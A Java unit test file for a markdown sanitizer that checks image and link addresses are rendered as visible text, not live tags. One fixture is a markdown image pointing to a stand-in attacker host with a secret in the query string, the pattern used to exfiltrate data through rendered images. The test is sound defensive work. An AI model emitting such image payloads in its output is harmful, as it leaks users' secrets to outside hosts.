package io.agentledger.command.report.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Objects;
import org.junit.jupiter.api.Test;

class HarmlessMarkdownTest {
  private static String xhtml(String markdown) {
    return String.join("", Objects.requireNonNull(HarmlessMarkdown.toXhtml(markdown)));
  }

  @Test
  void addressesOfImagesAreTextInEveryFormat() {
    var markdown = "![pixel](https://evil.example/p.png?d=SECRET)";
    assertThat(xhtml(markdown))
        .contains("pixel", "(https://evil.example/p.png?d=SECRET)")
        .doesNotContain("<img");
    assertThat(HarmlessMarkdown.toMarkdown(markdown)).contains("evil.example/p.png");
  }

  @Test
  void addressesOfLinksAreTextWhereTheirTextIsAnother() {
    assertThat(xhtml("[nice](https://evil.example/a)"))
        .contains(">nice</a> (https://evil.example/a)");
    assertThat(xhtml("<https://example.org/a>")).doesNotContain("(https");
  }

  @Test
  void longAddressesAreCut() {
    assertThat(xhtml("[nice](https://evil.example/" + "a".repeat(2_000) + ")")).contains("a…)");
  }
}
